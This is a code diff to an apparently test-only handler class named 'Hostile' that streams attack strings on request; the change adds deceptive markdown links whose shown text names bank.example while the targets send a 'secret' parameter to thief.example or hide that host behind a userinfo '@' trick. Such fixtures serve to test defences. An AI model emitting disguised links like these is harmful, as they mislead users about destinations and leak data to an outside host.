@@ -44,6 +44,12 @@ ATTACKS = {
 }
 
 
+# Links that hide where they lead, and what they take along.
+LINKS = (
+    "[https://bank.example/](http://thief.example/take?words=secret) and [here](http://bank.example@thief.example/x)."
+)
+
+
 class Hostile(Handler):
     """Returns the attack that the question names."""
 
@@ -56,6 +62,8 @@ class Hostile(Handler):
             for character in f"{ATTACKS[name]}\n\nDone.":
                 yield {"content": character}
                 time.sleep(0.01)
+        elif question.startswith("Link"):
+            yield {"content": LINKS}
         elif name:
             yield {"content": f"{ATTACKS[name]}\n\nDone."}
         else:
